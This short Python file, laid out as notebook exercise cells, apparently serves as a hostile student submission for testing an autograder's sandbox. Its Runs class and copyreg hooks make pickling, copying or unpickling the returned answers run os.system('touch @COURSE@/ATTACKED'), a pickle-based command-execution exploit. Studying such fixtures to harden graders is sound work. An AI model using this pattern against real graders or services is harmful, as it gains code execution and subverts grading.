# %% first
import copyreg
import os
import pickle


class Runs:
    def __reduce_ex__(self, protocol):
        return os.system, ("touch @COURSE@/ATTACKED",)

    __reduce__ = __getstate__ = __copy__ = __deepcopy__ = lambda self, *args: (os.system, ("touch @COURSE@/ATTACKED",))

    def __getattr__(self, name):
        raise AttributeError(name)


copyreg.pickle(float, lambda value: (os.system, ("touch @COURSE@/ATTACKED",)))
copyreg.pickle(tuple, lambda value: (os.system, ("touch @COURSE@/ATTACKED",)))

# %% exercise="update"
def update(theta, x, y):
    return Runs()

# %% exercise="train"
def train(X, y, T):
    return pickle.dumps(Runs()), bytearray(pickle.dumps(Runs()))

# %% exercise="audit"
audit_score = Runs()
